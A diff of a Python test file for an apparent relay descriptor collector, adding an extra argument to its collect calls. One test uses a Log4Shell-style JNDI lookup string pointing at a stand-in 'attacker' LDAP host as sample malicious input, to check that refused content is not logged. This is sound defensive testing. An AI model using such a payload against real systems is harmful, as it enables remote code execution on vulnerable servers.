@@ -81,7 +81,7 @@ class Published:
             nursery.start_soon(self.running.run)
 
     def collect(self, node: Node, descriptor: Descriptor | None = None) -> None:
-        self.collector.collect(sign_descriptor(descriptor or node.describe(), node.identity))
+        self.collector.collect(sign_descriptor(descriptor or node.describe(), node.identity), 1)
 
 
 async def test_a_relay_that_answers_is_listed_and_one_that_does_not_is_forgotten(tmp_path: Path) -> None:
@@ -185,7 +185,7 @@ async def test_a_document_that_cannot_be_joined_loses_neither_evidence_nor_itsel
 def test_what_a_sender_wrote_is_not_logged(tmp_path: Path) -> None:
     published, secret = Published(tmp_path / "authority", relays=1), "log4j ${jndi:ldap://attacker}"
     with capture_logs() as logs, pytest.raises(OnionPathError):
-        published.collector.collect(secret.encode())
+        published.collector.collect(secret.encode(), 1)
 
     assert [{"event": "descriptor_refused", "reason": "malformed", "log_level": "warning"}] == logs
     assert "other" == reason_of(RefusedError(secret, reason=secret))
